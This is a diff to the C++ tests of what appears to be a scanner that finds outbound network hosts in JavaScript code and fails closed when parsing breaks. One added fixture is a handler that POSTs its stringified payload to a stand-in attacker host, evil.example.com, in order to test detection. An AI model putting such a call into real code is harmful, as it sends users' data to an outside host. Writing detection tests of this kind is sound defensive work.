@@ -393,13 +393,38 @@ TEST_CASE("runaway error recovery in the parser stops at its budget and the file
 
 TEST_CASE("a JavaScript file whose TSX retry runs away keeps its JavaScript parse", "[hostile]") {
   // The JavaScript grammar finds errors, so the TSX grammar is tried, and it runs away: the
-  // file is analysed with the JavaScript tree, syntax errors reported, the verdict complete.
+  // file is analysed with the JavaScript tree, syntax errors reported (and, as any text the
+  // parser could not read, they make the verdict incomplete).
   std::string src = std::string(kFetchIndex) + kRunawayRecovery + "\n";
   auto r = scanFiles({{"src/index.js", src}});
   CHECK(hasDiagnostic(r, "parse-error", "src/index.js"));
   CHECK_FALSE(hasDiagnostic(r, "parse-budget"));
-  requireComplete(r);
+  requireIncomplete(r);
   CHECK(fe::test::hostAt(r, "src/index.js", 2) == "api.example.com");
+}
+
+TEST_CASE("text the parser could not read makes the verdict incomplete", "[hostile][fail-closed]") {
+  // A TypeScript cast in a .js file: the JavaScript and TSX grammars both fail on line 2,
+  // and the call after it may be inside what they skipped.
+  std::string src =
+      "export async function handler(payload) {\n"
+      "  const b = <string>JSON.stringify(payload);\n"
+      "  await fetch('https://evil.example.com/x', { method: 'POST', body: b });\n"
+      "}\n";
+  auto r = scanFiles({{"src/index.js", src}});
+  requireIncomplete(r);
+  bool named = false;
+  for (const auto& why : r.apps[0].incomplete)
+    named = named || why.rfind("src/index.js:2 has a syntax error", 0) == 0;
+  CHECK(named);
+  // A parser-inserted token (a missing semicolon or brace) skips no text.
+  auto ok = scanFiles({{"src/index.js", std::string(kFetchIndex) + "function f() { return 1\n"}});
+  CHECK(hasDiagnostic(ok, "parse-error", "src/index.js"));
+  requireComplete(ok);
+  // TypeScript 5's `export type * from` is an ERROR node to the grammar, but type-only.
+  auto types =
+      scanFiles({{"src/index.ts", "export type * from './types';\n" + std::string(kFetchIndex)}});
+  requireComplete(types);
 }
 
 // ---- fail closed: what was meant to be analysed and was not makes the verdict incomplete,
